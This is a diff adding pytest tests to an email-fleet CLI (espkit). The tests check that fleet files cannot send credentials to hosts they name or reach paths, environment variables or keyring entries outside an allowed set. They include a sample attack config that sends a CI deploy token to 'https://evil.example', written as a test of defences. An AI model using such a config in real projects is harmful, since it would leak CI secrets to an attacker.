@@ -4,8 +4,12 @@ team runs them: 500 customers x 2 streams, re-plan to zero, the 40 % delete refu
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
+from typing import Any
 
+import pytest
+import responses
 from support.clitext import flat, write
 
 import espkit
@@ -209,3 +213,136 @@ def test_plan_exit_code_detects_drift(run, tmp_path: Path, sandbox_db: str) -> N
     drift = run("plan", fleet, "--exit-code")
     assert drift.exit_code == 3
     assert "news.cust1.example.com" in drift.stdout
+
+
+# -- where a fleet file's keys may go (espkit.fleet.trust) -------------------------------------
+
+TRUST_SECRET = "key-cli-trust-0123456789SECRET"
+
+
+def one_connection(conn: str) -> str:
+    """A fleet of one customer whose only connection is ``conn`` (flow YAML)."""
+    return fleet_yaml(range(1)).replace("sandbox: {provider: sandbox}", f"sandbox: {conn}")
+
+
+@pytest.fixture
+def no_opt_ins(monkeypatch: pytest.MonkeyPatch) -> None:
+    for name in ("ESPKIT_ALLOW_HOSTS", "ESPKIT_ALLOW_ENV", "ESPKIT_ALLOW_KEYRING_SERVICES",
+                 "ESPKIT_ALLOW_PATHS"):
+        monkeypatch.delenv(name, raising=False)
+
+
+@responses.activate(assert_all_requests_are_fired=False)
+def test_plan_refuses_to_send_a_key_to_a_host_the_file_names(
+        run, tmp_path: Path, no_opt_ins: None, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The issue's attack: a pull request points a connection at its own host with a CI
+    secret as the key. plan exits 2 naming the host and the opt-in, sends nothing, shows no
+    secret; with --allow-host (and --allow-env) the same file does reach that host."""
+    monkeypatch.setenv("CI_DEPLOY_TOKEN", TRUST_SECRET)
+    hits: list[str] = []
+
+    def unauthorised(request: Any) -> tuple[int, dict[str, str], str]:
+        hits.append(request.url)
+        return 401, {"Content-Type": "application/json"}, '{"message": "Invalid private key"}'
+
+    for host in ("https://evil.example", "https://api.mailgun.net", "https://api.eu.mailgun.net"):
+        responses.add_callback(responses.GET, re.compile(re.escape(host) + r"/.*"), unauthorised)
+    fleet = write(tmp_path, one_connection(
+        "{provider: mailgun, base_url: 'https://evil.example', credentials: env/CI_DEPLOY_TOKEN}"))
+
+    for command in (["plan", fleet], ["apply", fleet, "--yes"], ["-o", "json", "plan", fleet]):
+        result = run(*command)
+        assert result.exit_code == 2, result.output
+        err = flat(result.stderr)
+        assert "line 3: connections.sandbox.base_url: refused:" in err
+        assert "'evil.example' is not mailgun's own API host" in err
+        assert "--allow-host evil.example" in err
+        assert "connections.sandbox.credentials: refused: env/CI_DEPLOY_TOKEN" in err
+        assert TRUST_SECRET not in result.output
+        assert len(responses.calls) == 0
+        assert hits == []
+
+    only_host = run("plan", fleet, "--allow-host", "evil.example")
+    assert only_host.exit_code == 2
+    assert "--allow-env CI_DEPLOY_TOKEN" in flat(only_host.stderr)
+    assert hits == []
+    allowed = run("plan", fleet, "--allow-host", "evil.example", "--allow-env", "CI_DEPLOY_TOKEN")
+    assert allowed.exit_code == 1, allowed.output  # the ESP's 401: an ESP error, not ours
+    assert hits
+    assert all(u.startswith("https://evil.example/") for u in hits)
+    assert TRUST_SECRET not in allowed.output
+
+
+def test_plan_and_apply_take_a_sandbox_path_outside_the_fleet_only_when_allowed(
+        run, tmp_path: Path, no_opt_ins: None) -> None:
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    outside = tmp_path / "elsewhere" / "state.db"
+    outside.parent.mkdir()
+    fleet = write(repo, one_connection("{provider: sandbox, path: ../elsewhere/state.db}"))
+    refused = run("plan", fleet)
+    assert refused.exit_code == 2
+    assert f"the sandbox file {str(outside)!r} is outside the fleet file's directory" in \
+        flat(refused.stderr)
+    assert f"--allow-path {outside}" in flat(refused.stderr)
+    assert not outside.exists()  # nothing was opened, so nothing created
+
+    assert run("plan", fleet, "--allow-path", str(outside.parent)).exit_code == 0
+    applied = run("apply", fleet, "--yes", "--allow-path", str(outside))
+    assert applied.exit_code == 0, applied.output
+    assert domains_on(str(outside)) == {"news.cust0.example.com", "mail.cust0.example.com"}
+
+
+def test_plan_reads_another_variable_only_when_allowed_by_option_or_environment(
+        run, tmp_path: Path, no_opt_ins: None, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CI_DEPLOY_TOKEN", TRUST_SECRET)
+    fleet = write(tmp_path, one_connection(
+        "{provider: sandbox, path: s.db, credentials: env/CI_DEPLOY_TOKEN}"))
+    refused = run("plan", fleet)
+    assert refused.exit_code == 2
+    assert "$CI_DEPLOY_TOKEN is not a sandbox key variable" in flat(refused.stderr)
+    assert TRUST_SECRET not in refused.output
+    assert run("plan", fleet, "--allow-env", "CI_DEPLOY_TOKEN").exit_code == 0
+    monkeypatch.setenv("ESPKIT_ALLOW_ENV", "CI_DEPLOY_TOKEN")
+    assert run("plan", fleet).exit_code == 0
+
+
+def test_plan_reads_another_keyring_service_only_when_allowed(
+        run, tmp_path: Path, no_opt_ins: None) -> None:
+    import keyring
+    from keyring.backends.fail import Keyring as NoKeyring
+
+    class OneEntry(NoKeyring):
+        priority = 1  # type: ignore[assignment]
+        reads = 0
+
+        def get_password(self, service: str, username: str) -> str | None:
+            OneEntry.reads += 1
+            return TRUST_SECRET if (service, username) == ("ci", "deploy") else None
+
+    previous = keyring.get_keyring()
+    keyring.set_keyring(OneEntry())
+    try:
+        fleet = write(tmp_path, one_connection(
+            "{provider: sandbox, path: s.db, credentials: keyring/ci/deploy}"))
+        refused = run("plan", fleet)
+        assert refused.exit_code == 2
+        assert "--allow-keyring-service ci" in flat(refused.stderr)
+        assert OneEntry.reads == 0
+        assert run("plan", fleet, "--allow-keyring-service", "ci").exit_code == 0
+        assert OneEntry.reads == 1
+    finally:
+        keyring.set_keyring(previous)
+
+
+def test_a_malformed_allow_host_exits_2_naming_it(run, tmp_path: Path, no_opt_ins: None,
+                                                  monkeypatch: pytest.MonkeyPatch) -> None:
+    fleet = write(tmp_path, fleet_yaml(range(1)))
+    result = run("plan", fleet, "--allow-host", "user@evil.example")
+    assert result.exit_code == 2
+    assert "'user@evil.example' is not a host" in flat(result.stderr)
+    monkeypatch.setenv("ESPKIT_ALLOW_HOSTS", "https://evil.example/path")
+    result = run("plan", fleet)
+    assert result.exit_code == 2
+    assert "$ESPKIT_ALLOW_HOSTS: 'https://evil.example/path' is not a host" in \
+        flat(result.stderr)
